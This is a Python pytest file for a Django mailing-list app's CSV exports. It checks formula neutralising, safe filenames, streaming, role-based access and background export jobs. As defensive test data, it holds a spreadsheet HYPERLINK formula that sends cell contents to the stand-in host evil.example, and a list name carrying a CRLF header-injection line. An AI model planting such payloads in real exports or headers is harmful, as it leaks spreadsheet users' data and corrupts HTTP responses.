"""CSV export of lists and segments: content, formula neutralising, streaming, access."""

from __future__ import annotations

import csv
import html
import io
import re

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from lists import exports
from lists.access import grant, revoke
from lists.models import ExportJob, Segment, Subscriber, Subscription
from mailpanel.lib.csvsafe import neutralise
from tests.factories import (
    CustomFieldFactory,
    MailingListFactory,
    SegmentFactory,
    SubscriberFactory,
    SubscriptionFactory,
)

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def read_csv(response) -> list[list[str]]:  # noqa: ANN001
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.fixture
def news(owner):  # noqa: ANN001, ANN201
    CustomFieldFactory(account=owner, key="vip", type="boolean", position=2)
    CustomFieldFactory(account=owner, key="city", type="text", position=1)
    news = MailingListFactory(owner=owner, name='Ünïcode "news"\r\nX-Evil: 1')
    ann = SubscriberFactory(
        account=owner,
        email="ann@example.org",
        name=EVIL_NAME,
        fields={"city": "+1 Berlin", "vip": True},
    )
    bob = SubscriberFactory(
        account=owner, email="bob@example.org", name="Bob", fields={"city": "-Paris"}
    )
    SubscriptionFactory(mailing_list=news, subscriber=ann, status="confirmed")
    SubscriptionFactory(mailing_list=news, subscriber=bob, status="unsubscribed")
    return news


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_neutralise_prefixes_formula_starts_only(cell: object, expected: str) -> None:
    assert neutralise(cell) == expected


def test_list_export_has_every_column_and_neutralised_cells(owner_client, news) -> None:  # noqa: ANN001
    response = owner_client.get(reverse("lists:export-list", args=[news.uuid]) + "?sort=email")
    rows = read_csv(response)
    header = [
        "email",
        "name",
        "status",
        "subscribed_at",
        "confirmed_at",
        "city",
        "vip",
        "created_at",
    ]
    assert rows[0] == header
    ann, bob = rows[1], rows[2]
    assert ann[:3] == ["ann@example.org", "'" + EVIL_NAME, "confirmed"]
    assert ann[5:7] == ["'+1 Berlin", "yes"]
    assert bob[:3] == ["bob@example.org", "Bob", "unsubscribed"]
    assert bob[5:7] == ["'-Paris", ""]
    assert ann[3].startswith("20") and ann[7].startswith("20")
    assert len(rows) == 3


def test_list_export_filename_is_safe(owner_client, news) -> None:  # noqa: ANN001
    response = owner_client.get(reverse("lists:export-list", args=[news.uuid]))
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="unicode-news-x-evil-1-')
    assert disposition.endswith('.csv"')
    assert "\r" not in disposition and "\n" not in disposition
    assert response["Content-Type"].startswith("text/csv")


def test_list_export_takes_the_list_page_filter(owner_client, news) -> None:  # noqa: ANN001
    url = reverse("lists:export-list", args=[news.uuid])
    confirmed = read_csv(owner_client.get(url + "?status=confirmed"))
    assert [row[0] for row in confirmed[1:]] == ["ann@example.org"]
    searched = read_csv(owner_client.get(url + "?q=bob"))
    assert [row[0] for row in searched[1:]] == ["bob@example.org"]


@pytest.mark.parametrize(("role", "status"), [("viewer", 200), ("manager", 200), (None, 404)])
def test_list_export_access(client, owner, delegate, news, role: str | None, status: int) -> None:  # noqa: ANN001
    if role:
        grant(news, delegate, role, granted_by=owner)
    client.force_login(delegate)
    response = client.get(reverse("lists:export-list", args=[news.uuid]))
    assert response.status_code == status
    if status == 200:
        assert len(read_csv(response)) == 3


def test_segment_export_has_the_matching_subscribers(owner_client, owner, news) -> None:  # noqa: ANN001
    SubscriberFactory(account=owner, email="cat@example.org", name="Cat", fields={"city": "Rome"})
    segment = SegmentFactory(
        account=owner,
        definition={"match": "any", "conditions": [
            {"type": "field", "field": "city", "op": "contains", "value": "Berlin"},
            {"type": "email", "op": "contains", "value": "cat"},
        ]},
    )  # fmt: skip
    rows = read_csv(owner_client.get(reverse("lists:segment-export", args=[segment.uuid])))
    assert rows[0] == [
        "email",
        "name",
        "subscribed_at",
        "confirmed_at",
        "city",
        "vip",
        "created_at",
    ]
    assert [row[0] for row in rows[1:]] == ["ann@example.org", "cat@example.org"]
    ann, cat = rows[1], rows[2]
    assert ann[1] == "'" + EVIL_NAME
    assert ann[2].startswith("20")
    assert cat[2:4] == ["", ""]  # on no list


def test_segment_export_is_the_owners_only(client, owner, delegate, news) -> None:  # noqa: ANN001
    grant(news, delegate, "manager", granted_by=owner)
    segment = SegmentFactory(account=owner)
    url = reverse("lists:segment-export", args=[segment.uuid])
    client.force_login(owner)
    assert client.get(url).status_code == 200
    client.force_login(delegate)
    assert client.get(url).status_code == 404


def test_export_streams_every_row_with_a_constant_number_of_queries(
    owner_client, owner, django_assert_max_num_queries
) -> None:  # noqa: ANN001
    # More rows than one iterator chunk, so the cursor is read in several fetches.
    CustomFieldFactory(account=owner, key="n", type="number")
    big = MailingListFactory(owner=owner)
    total = 4500
    Subscriber.objects.bulk_create(
        Subscriber(account=owner, email=f"r{i}@example.org", domain="example.org", fields={"n": i})
        for i in range(total)
    )
    Subscription.objects.bulk_create(
        Subscription(mailing_list=big, subscriber=s, status="confirmed", source="import")
        for s in Subscriber.objects.filter(account=owner)
    )
    response = owner_client.get(reverse("lists:export-list", args=[big.uuid]))
    assert isinstance(response, StreamingHttpResponse)
    with django_assert_max_num_queries(3):
        chunks = list(response.streaming_content)
    assert len(chunks) > 1
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8")[1:])))
    assert len(rows) == total + 1
    assert {row[0] for row in rows[1:]} == {f"r{i}@example.org" for i in range(total)}
    segment = SegmentFactory(account=owner, definition={"match": "all", "conditions": []})
    response = owner_client.get(reverse("lists:segment-export", args=[segment.uuid]))
    # Field keys, the segment's fields and lists (to compile it), then the rows.
    with django_assert_max_num_queries(4):
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode()[1:])))
    assert len(rows) == total + 1


# --- Export jobs ----------------------------------------------------------------------


@pytest.fixture(autouse=True)
def media(settings, tmp_path):  # noqa: ANN001, ANN201
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def job_text(job: ExportJob) -> str:
    with job.file.open("rb") as stream:
        return stream.read().decode("utf-8")


def streamed_text(response) -> str:  # noqa: ANN001
    return b"".join(response.streaming_content).decode("utf-8")


def test_the_list_pages_export_button_exports_the_current_filter(
    owner_client, news, celery_eager, django_capture_on_commit_callbacks
) -> None:  # noqa: ANN001
    page = owner_client.get(
        reverse("lists:detail", args=[news.uuid]), {"status": "unsubscribed", "q": "bo"}
    ).content.decode()
    form = re.search(
        r'<form method="post" action="([^"]+)" class="export-form".*?</form>', page, re.S
    )
    fields = dict(re.findall(r'type="hidden" name="(\w+)" value="([^"]*)"', form.group(0)))
    fields.pop("csrfmiddlewaretoken")
    assert fields == {"status": "unsubscribed", "q": "bo"}

    with django_capture_on_commit_callbacks(execute=True):
        response = owner_client.post(html.unescape(form.group(1)), fields)

    assert response.status_code == 302 and "status=unsubscribed" in response["Location"]
    job = ExportJob.objects.get()
    assert (job.status, job.rows_written) == (ExportJob.Status.DONE, 1)
    download = owner_client.get(reverse("lists:export-download", args=[job.uuid]))
    text = b"".join(download.streaming_content).decode("utf-8")
    assert [row[0] for row in csv.reader(io.StringIO(text[1:]))][1:] == ["bob@example.org"]
    assert download["Content-Disposition"].startswith("attachment")


def test_an_export_job_writes_exactly_the_streamed_export(owner_client, owner, news) -> None:  # noqa: ANN001
    segment = SegmentFactory(account=owner, definition={"match": "all", "conditions": []})
    list_job = exports.start_list_export(news, owner, {"sort": "email"})
    segment_job = exports.start_segment_export(segment, owner)
    for job in (list_job, segment_job):
        exports.run_job(job.id)
        job.refresh_from_db()

    list_url = reverse("lists:export-list", args=[news.uuid])
    assert job_text(list_job) == streamed_text(owner_client.get(list_url, {"sort": "email"}))
    segment_url = reverse("lists:segment-export", args=[segment.uuid])
    assert job_text(segment_job) == streamed_text(owner_client.get(segment_url))
    # Formula cells are neutralised in the file as in the stream.
    rows = list(csv.reader(io.StringIO(job_text(list_job)[1:])))
    ann = next(row for row in rows if row[0] == "ann@example.org")
    assert ann[1] == "'" + EVIL_NAME and "'+1 Berlin" in ann
    assert list_job.rows_written == 2


def test_a_job_runs_once_even_if_its_task_arrives_twice(owner, news) -> None:  # noqa: ANN001
    job = exports.start_list_export(news, owner, {})
    assert exports.run_job(job.id).status == ExportJob.Status.DONE
    assert exports.run_job(job.id) is None


def test_a_segment_that_no_longer_compiles_fails_its_job_with_the_reason(owner, news) -> None:  # noqa: ANN001
    segment = SegmentFactory(account=owner, definition={"match": "all", "conditions": []})
    job = exports.start_segment_export(segment, owner)
    Segment.objects.filter(id=segment.id).update(
        definition={"match": "all", "conditions": [{"type": "field", "field": "gone", "op": "eq"}]}
    )
    job = exports.run_job(job.id)
    assert job.status == ExportJob.Status.FAILED and job.error
    assert not job.file


@pytest.mark.parametrize(
    ("role", "status"), [("owner", 200), ("viewer", 200), ("manager", 200), (None, 404)]
)
def test_export_jobs_are_seen_by_who_may_see_the_list(
    client, owner, delegate, news, role: str | None, status: int
) -> None:  # noqa: ANN001
    job = exports.start_list_export(news, owner, {})
    exports.run_job(job.id)
    if role in ("viewer", "manager"):
        grant(news, delegate, role, granted_by=owner)
    client.force_login(owner if role == "owner" else delegate)

    for name in ("lists:export-download", "lists:export-progress"):
        assert client.get(reverse(name, args=[job.uuid])).status_code == status
    started = client.post(reverse("lists:export-start", args=[news.uuid]))
    assert started.status_code == (302 if status == 200 else 404)


def test_a_revoked_delegate_and_a_stranger_get_404(client, owner, delegate, stranger, news) -> None:  # noqa: ANN001
    role = grant(news, delegate, "viewer", granted_by=owner)
    job = exports.start_list_export(news, owner, {})
    exports.run_job(job.id)
    segment_job = exports.start_segment_export(SegmentFactory(account=owner), owner)
    exports.run_job(segment_job.id)
    url = reverse("lists:export-download", args=[job.uuid])
    client.force_login(delegate)
    assert client.get(url).status_code == 200
    # A delegate of a list does not see the owner's segments, nor their exports.
    segment_url = reverse("lists:export-download", args=[segment_job.uuid])
    assert client.get(segment_url).status_code == 404

    revoke(news, role.id)
    assert client.get(url).status_code == 404
    client.force_login(stranger)
    assert client.get(url).status_code == 404
    assert client.get(segment_url).status_code == 404


def test_the_list_page_polls_a_running_export_until_it_is_done(owner_client, owner, news) -> None:  # noqa: ANN001
    job = exports.start_list_export(news, owner, {})
    progress = reverse("lists:export-progress", args=[job.uuid])
    download = reverse("lists:export-download", args=[job.uuid])
    page = owner_client.get(reverse("lists:detail", args=[news.uuid])).content.decode()
    assert f'hx-get="{progress}"' in page and download not in page
    assert owner_client.get(download).status_code == 404  # not written yet

    exports.run_job(job.id)
    partial = owner_client.get(progress).content.decode()
    assert "hx-get" not in partial
    assert "2 rows written" in partial and download in partial
